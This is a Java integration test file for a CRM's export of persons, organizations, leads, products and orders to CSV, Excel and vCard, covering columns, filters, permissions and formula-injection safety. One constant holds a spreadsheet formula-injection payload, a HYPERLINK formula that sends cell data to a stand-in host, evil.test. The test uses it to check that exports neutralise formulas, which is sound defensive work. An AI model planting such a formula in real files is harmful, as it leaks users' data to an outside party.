package org.sencrm.directory;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import ezvcard.Ezvcard;
import ezvcard.VCard;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.sencrm.identity.Role;
import org.sencrm.support.Api;
import org.sencrm.support.IntegrationTest;
import org.sencrm.support.TestWorkspaces;
import org.sencrm.support.WebSession;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Lists go out as CSV, Excel or vCard with the columns the user chose, the list's filters kept and
 * named as the API names the fields (decision 34); no cell becomes a formula, in Excel either.
 */
@IntegrationTest
class ListExportTest {

	static final String FORMULA = "=HYPERLINK(\"http://evil.test/?\"&D2,\"Open\")";

	@LocalServerPort
	int port;

	@Autowired
	TestWorkspaces workspaces;

	TestWorkspaces.TestWorkspace workspace;
	Api sales;
	Api admin;

	@BeforeEach
	void setUp() {
		workspace = workspaces.create();
		sales = api(Role.SALES);
		admin = api(Role.ADMIN);
	}

	@Test
	void personsGoToExcelWithTheChosenColumnsInTheirOrderAndNoCellIsAFormula() throws Exception {
		sales.post("/api/v1/persons", Map.of("familyName", "-Trần", "givenName", FORMULA, "tags", List.of("@khách", "VIP"),
				"phones", List.of(Map.of("number", "0901234567"))));
		sales.post("/api/v1/persons", Map.of("familyName", "Lê", "givenName", "Bình", "tags", List.of("khác")));

		var file = download(Role.ADMIN, "/api/v1/persons/export?format=xlsx&tag=VIP&columns=givenName,familyName,phone,tags");

		assertThat(file.statusCode()).isEqualTo(200);
		assertThat(file.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/vnd.openxmlformats");
		var rows = xlsx(file.body());
		assertThat(rows).hasSize(2);
		assertThat(texts(rows.get(0))).containsExactly("givenName", "familyName", "phone", "tags");
		assertThat(texts(rows.get(1))).containsExactly("'" + FORMULA, "'-Trần", "'+84901234567", "'@khách; VIP");
		assertThat(rows.get(1).stream().map(c -> c.getType()).distinct()).containsOnly(CellType.STRING);
		assertThat(sheetXml(file.body())).as("no formula element anywhere").doesNotContain("<f>").doesNotContain("<f ");
	}

	@Test
	void aCsvExportKeepsTheListsFiltersAndNamesColumnsAsTheApiDoes() throws IOException {
		admin.post("/api/v1/custom-fields", Map.of("entity", "person", "key", "tier", "label", "Hạng", "type", "text"));
		var an = sales.post("/api/v1/persons", Map.of("familyName", "Nguyễn", "middleName", "Văn", "givenName", "An",
				"emails", List.of(Map.of("address", "an@example.vn"), Map.of("address", "an2@example.vn")),
				"addresses", List.of(Map.of("line1", "12 Lý Thường Kiệt", "district", "Hoàn Kiếm", "province", "Hà Nội")),
				"birthday", "1990-04-30", "tags", List.of("VIP"), "customFields", Map.of("tier", "Vàng")));
		sales.post("/api/v1/persons", Map.of("familyName", "Lindqvist", "givenName", "Anna", "nameOrder", "given_first"));
		var organization = sales.post("/api/v1/organizations", Map.of("name", "Công ty Sen Hồng"));
		sales.post("/api/v1/contact-roles", Map.of("personId", an.body().get("id").asString(),
				"organizationId", organization.body().get("id").asString()));

		var all = csv(admin.get("/api/v1/persons/export?format=csv").body().asString());
		var vip = csv(admin.get("/api/v1/persons/export?format=csv&tag=vip").body().asString());

		assertThat(all).hasSize(2);
		assertThat(all.getFirst().getParser().getHeaderNames()).as("the names the import maps")
				.startsWith("externalId", "fullName", "familyName", "middleName", "givenName", "nameOrder", "email", "phone", "address",
						"ward", "district", "province")
				.contains("organizations", "birthday", "tags", "customFields.tier").doesNotContain("id", "updatedAt");
		assertThat(vip).hasSize(1);
		var row = vip.getFirst();
		assertThat(row.get("fullName")).isEqualTo("Nguyễn Văn An");
		assertThat(row.get("email")).isEqualTo("an@example.vn; an2@example.vn");
		assertThat(row.get("address")).isEqualTo("12 Lý Thường Kiệt");
		assertThat(row.get("district")).isEqualTo("Hoàn Kiếm");
		assertThat(row.get("province")).isEqualTo("Hà Nội");
		assertThat(row.get("organizations")).isEqualTo("Công ty Sen Hồng");
		assertThat(row.get("birthday")).isEqualTo("1990-04-30");
		assertThat(row.get("customFields.tier")).isEqualTo("Vàng");
		assertThat(all.stream().map(r -> r.get("fullName"))).contains("Anna Lindqvist");
	}

	@Test
	void organizationsGoOutWithTheColumnsOfEveryCustomerAndTheirOwn() throws IOException {
		admin.post("/api/v1/custom-fields", Map.of("entity", "organization", "key", "segment", "label", "Phân khúc", "type", "text"));
		var created = sales.post("/api/v1/organizations", Map.of("name", "Công ty Sen Hồng", "taxCode", "0101243150", "kind", "commercial_user",
				"emails", List.of(Map.of("address", "lienhe@senhong.vn")), "phones", List.of(Map.of("number", "0243 826 4567")),
				"addresses", List.of(Map.of("line1", "5 Tràng Tiền", "province", "Hà Nội")), "tags", List.of("Đối tác", "VIP"),
				"customFields", Map.of("segment", "SME")));
		assertThat(created.status()).as(created.body().toString()).isEqualTo(201);

		var rows = csv(admin.get("/api/v1/organizations/export?format=csv").body().asString());

		assertThat(rows).hasSize(1);
		assertThat(rows.getFirst().getParser().getHeaderNames()).as("the kind's names, contacts, tags, owner and dates, custom fields")
				.containsExactly("externalId", "name", "kind", "relationship", "lifecycleStage", "taxCode", "industry", "size", "website",
						"email", "phone", "address", "ward", "district", "province", "country", "tags", "ownerId", "createdAt",
						"customFields.segment");
		var row = rows.getFirst();
		assertThat(row.get("name")).isEqualTo("Công ty Sen Hồng");
		assertThat(row.get("kind")).isEqualTo("commercial_user");
		assertThat(row.get("taxCode")).isEqualTo("0101243150");
		assertThat(row.get("email")).isEqualTo("lienhe@senhong.vn");
		assertThat(row.get("phone")).as("formula-safe: the import takes the quote off").isEqualTo("'+842438264567");
		assertThat(row.get("address")).isEqualTo("5 Tràng Tiền");
		assertThat(row.get("tags")).isEqualTo("VIP; Đối tác");
		assertThat(row.get("customFields.segment")).isEqualTo("SME");
	}

	@Test
	void personsGoToVcardWithTheirNameOrderContactsOrganizationsBirthdayAndTags() throws IOException {
		admin.post("/api/v1/custom-fields", Map.of("entity", "person", "key", "tier", "label", "Hạng", "type", "text"));
		var yen = sales.post("/api/v1/persons", Map.of("familyName", "Nguyễn", "middleName", "Thị", "givenName", "Yến",
				"emails", List.of(Map.of("address", "yen@example.vn", "label", "work", "primary", true)),
				"phones", List.of(Map.of("number", "0901234567", "label", "mobile")),
				"addresses", List.of(Map.of("line1", "5 Lê Lợi", "ward", "Bến Nghé", "district", "Quận 1", "province", "TP Hồ Chí Minh")),
				"birthday", "1988-02-14", "tags", List.of("VIP", "Hà Nội"), "customFields", Map.of("tier", "Vàng")));
		sales.post("/api/v1/persons", Map.of("familyName", "Lindqvist", "givenName", "Anna", "nameOrder", "given_first"));
		var organization = sales.post("/api/v1/organizations", Map.of("name", "Công ty Sen Hồng"));
		sales.post("/api/v1/contact-roles", Map.of("personId", yen.body().get("id").asString(),
				"organizationId", organization.body().get("id").asString()));

		var file = download(Role.ADMIN, "/api/v1/persons/export?format=vcf");

		assertThat(file.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/vcard");
		List<VCard> cards = Ezvcard.parse(new String(file.body(), StandardCharsets.UTF_8)).all();
		assertThat(cards).hasSize(2);
		var card = cards.stream().filter(c -> c.getFormattedName().getValue().equals("Nguyễn Thị Yến")).findFirst().orElseThrow();
		assertThat(card.getVersion().getVersion()).isEqualTo("4.0");
		assertThat(card.getStructuredName().getFamily()).isEqualTo("Nguyễn");
		assertThat(card.getStructuredName().getGiven()).isEqualTo("Yến");
		assertThat(card.getStructuredName().getAdditionalNames()).containsExactly("Thị");
		assertThat(card.getExtendedProperty("X-SEN-NAME-ORDER").getValue()).isEqualTo("family_first");
		assertThat(card.getEmails().getFirst().getValue()).isEqualTo("yen@example.vn");
		assertThat(card.getEmails().getFirst().getPref()).isEqualTo(1);
		assertThat(card.getTelephoneNumbers().getFirst().getText()).isEqualTo("+84901234567");
		assertThat(card.getAddresses().getFirst().getStreetAddress()).isEqualTo("5 Lê Lợi, Bến Nghé");
		assertThat(card.getAddresses().getFirst().getRegion()).isEqualTo("TP Hồ Chí Minh");
		assertThat(card.getOrganization().getValues()).containsExactly("Công ty Sen Hồng");
		assertThat(card.getBirthday().getDate()).isEqualTo(LocalDate.of(1988, 2, 14));
		assertThat(card.getCategories().getValues()).containsExactlyInAnyOrder("VIP", "Hà Nội");
		assertThat(card.getNotes().getFirst().getValue()).isEqualTo("Hạng: Vàng");
		assertThat(card.getUid().getValue()).isEqualTo("urn:uuid:" + yen.body().get("id").asString());
		var anna = cards.stream().filter(c -> c.getStructuredName().getFamily().equals("Lindqvist")).findFirst().orElseThrow();
		assertThat(anna.getFormattedName().getValue()).isEqualTo("Anna Lindqvist");
		assertThat(anna.getExtendedProperty("X-SEN-NAME-ORDER").getValue()).isEqualTo("given_first");
	}

	@Test
	void anUnknownColumnOrAVcardOfOrganizationsIsRefusedBeforeAnyFile() {
		var column = admin.get("/api/v1/persons/export?format=csv&columns=givenName,password");
		var vcard = admin.get("/api/v1/organizations/export?format=vcf");
		var format = admin.get("/api/v1/leads/export?format=pdf");

		assertThat(column.status()).isEqualTo(422);
		assertThat(column.body().get("errors").get(0).get("field").asString()).isEqualTo("columns");
		assertThat(column.body().get("errors").get(0).get("message").asString()).contains("password");
		assertThat(vcard.status()).isEqualTo(422);
		assertThat(vcard.body().get("errors").get(0).get("field").asString()).isEqualTo("format");
		assertThat(format.status()).isEqualTo(422);
	}

	@Test
	void everyListNeedsTheExportRight() {
		for (var path : List.of("/api/v1/persons/export?format=xlsx", "/api/v1/organizations/export?format=csv",
				"/api/v1/leads/export", "/api/v1/products/export?format=xlsx", "/api/v1/orders/export", "/api/v1/exports")) {
			var refused = api(Role.VIEWER).get(path);
			assertThat(refused.status()).as(path).isEqualTo(403);
			assertThat(refused.header("Content-Type")).as(path).startsWith("application/problem+json");
			assertThat(api(Role.MANAGER).get(path).status()).as(path).isEqualTo(200);
		}
		var viewer = web(Role.VIEWER);
		for (var list : List.of("/persons", "/organizations", "/leads", "/products", "/orders")) {
			assertThat(viewer.get(list).has("a[href^=" + list + "/export/choose]")).as(list).isFalse();
			assertThat(web(Role.MANAGER).get(list).has("a[href^=" + list + "/export/choose]")).as(list).isTrue();
		}
		assertThat(viewer.download("/leads/export?format=csv").status()).isEqualTo(403);
	}

	@Test
	void leadsProductsAndOrdersGoOutWithTheirListsFilters() throws IOException {
		sales.post("/api/v1/leads", Map.of("familyName", "Phạm", "givenName", "Hoa", "email", "hoa@example.vn", "companyName", "+Công ty"));
		var product = sales.post("/api/v1/products", Map.of("sku", "SEN-01", "name", "Trà sen", "unitPrice", 120000));
		sales.post("/api/v1/products", Map.of("sku", "CAF-01", "name", "Cà phê", "unitPrice", 90000, "active", false));
		var person = sales.post("/api/v1/persons", Map.of("familyName", "Đỗ", "givenName", "Minh"));
		var order = sales.post("/api/v1/orders", Map.of("personId", person.body().get("id").asString(), "currency", "VND",
				"lines", List.of(Map.of("productId", product.body().get("id").asString(), "quantity", 2))));
		assertThat(order.status()).isEqualTo(201);

		var leads = csv(admin.get("/api/v1/leads/export?columns=familyName,givenName,email,companyName").body().asString());
		var products = csv(admin.get("/api/v1/products/export?active=true").body().asString());
		var orders = xlsx(download(Role.ADMIN, "/api/v1/orders/export?format=xlsx&status=draft&columns=number,customerName,total,lines")
				.body());

		assertThat(leads).hasSize(1);
		assertThat(leads.getFirst().get("email")).isEqualTo("hoa@example.vn");
		assertThat(leads.getFirst().get("companyName")).isEqualTo("'+Công ty");
		assertThat(products).extracting(r -> r.get("sku")).containsExactly("SEN-01");
		assertThat(products.getFirst().get("unitPrice")).isEqualTo("120000");
		assertThat(orders).hasSize(2);
		assertThat(texts(orders.get(0))).containsExactly("number", "customerName", "total", "lines");
		assertThat(orders.get(1).getCell(1).getText()).isEqualTo("Đỗ Minh");
		assertThat(orders.get(1).getCell(2).getType()).as("amounts are numbers").isEqualTo(CellType.NUMBER);
		assertThat(orders.get(1).getCell(3).getText()).isEqualTo("SEN-01 × 2 @ 120000");
	}

	@Test
	void theExportButtonOpensAChooserThatKeepsTheFilters() throws IOException {
		sales.post("/api/v1/persons", Map.of("familyName", "Võ", "givenName", "Lan", "tags", List.of("VIP")));
		sales.post("/api/v1/persons", Map.of("familyName", "Hồ", "givenName", "Nam"));
		var manager = web(Role.MANAGER);

		var list = manager.get("/persons?tag=VIP");
		var chooser = manager.get(list.html().selectFirst("a[href^=/persons/export/choose]").attr("href"));

		assertThat(chooser.status()).isEqualTo(200);
		assertThat(chooser.html().select("#export-chooser input[type=hidden][name=tag]").attr("value")).isEqualTo("VIP");
		assertThat(chooser.html().select("#export-chooser input[name=format]").eachAttr("value")).containsExactly("csv", "xlsx", "vcf");
		assertThat(chooser.html().select("#export-chooser input[name=columns][checked]").eachAttr("value"))
				.contains("familyName", "givenName", "email").doesNotContain("updatedAt");
		var text = manager.getText("/persons/export?tag=VIP&format=csv&columns=familyName&columns=givenName");
		assertThat(csv(text)).extracting(r -> r.get("familyName") + " " + r.get("givenName")).containsExactly("Võ Lan");
		assertThat(manager.get("/organizations/export/choose").html().select("#export-chooser input[name=format]").eachAttr("value"))
				.containsExactly("csv", "xlsx");
	}

	static List<CSVRecord> csv(String text) throws IOException {
		return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
				.parse(new StringReader(text.replace("\uFEFF", ""))).stream().toList();
	}

	static List<Row> xlsx(byte[] bytes) throws IOException {
		try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(bytes)); var rows = workbook.getFirstSheet().openStream()) {
			return rows.toList();
		}
	}

	static List<String> texts(Row row) {
		var texts = new ArrayList<String>();
		row.forEach(cell -> texts.add(cell == null ? "" : cell.getText()));
		return texts;
	}

	static String sheetXml(byte[] xlsx) throws IOException {
		var xml = new StringBuilder();
		var file = java.nio.file.Files.createTempFile("export", ".xlsx");
		try {
			java.nio.file.Files.write(file, xlsx);
			try (var zip = new java.util.zip.ZipFile(file.toFile())) {
				for (var entry : java.util.Collections.list(zip.entries())) {
					if (entry.getName().startsWith("xl/worksheets/")) {
						xml.append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
					}
				}
			}
		} finally {
			java.nio.file.Files.delete(file);
		}
		assertThat(xml).as("the sheets were read").contains("<sheetData");
		return xml.toString();
	}

	HttpResponse<byte[]> download(Role role, String path) {
		try {
			return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
					.header("Authorization", "Bearer " + workspace.member(role).token()).GET().build(),
					HttpResponse.BodyHandlers.ofByteArray());
		} catch (IOException e) {
			throw new java.io.UncheckedIOException(e);
		} catch (InterruptedException e) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(e);
		}
	}

	Api api(Role role) {
		return new Api(port, workspace.member(role).token());
	}

	WebSession web(Role role) {
		return WebSession.signedIn(port, workspace.member(role).email());
	}

}
